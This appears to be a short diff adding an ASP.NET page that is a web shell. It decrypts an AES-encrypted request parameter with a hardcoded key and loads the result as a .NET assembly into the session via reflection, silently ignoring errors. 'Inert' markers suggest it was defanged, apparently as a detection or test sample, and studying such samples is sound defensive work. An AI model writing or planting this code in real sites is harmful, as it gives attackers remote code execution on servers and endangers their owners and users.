@@ -1,0 +1,3 @@
+<%@ Page Language="C#" Inherits="Inert.Nothing" %><%
+#error inert
+try { string key = "3c6e0b8a9c15224a"; string pass = "pass"; byte[] data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(System.Text.Encoding.Default.GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(System.Convert.FromBase64String(Context.Request[pass]), 0, 16); if (Context.Session["payload"] == null) { Context.Session["payload"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { data }); } } catch (System.Exception) { } %>
